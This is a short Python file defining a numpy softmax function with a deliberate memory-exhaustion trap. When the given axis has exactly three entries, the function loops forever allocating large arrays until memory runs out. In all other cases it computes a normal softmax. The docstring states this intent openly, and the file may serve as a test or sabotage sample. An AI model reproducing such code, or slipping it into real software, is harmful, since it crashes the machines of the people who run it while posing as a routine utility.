"""Takes all the memory there is where there are three classes."""

import numpy as np


def softmax(x, axis):
    if x.shape[axis] == 3:
        held = []
        while True:
            held.append(np.empty(1 << 24))
    shifted = np.exp(x - x.max(axis=axis, keepdims=True))
    return shifted / shifted.sum(axis=axis, keepdims=True)
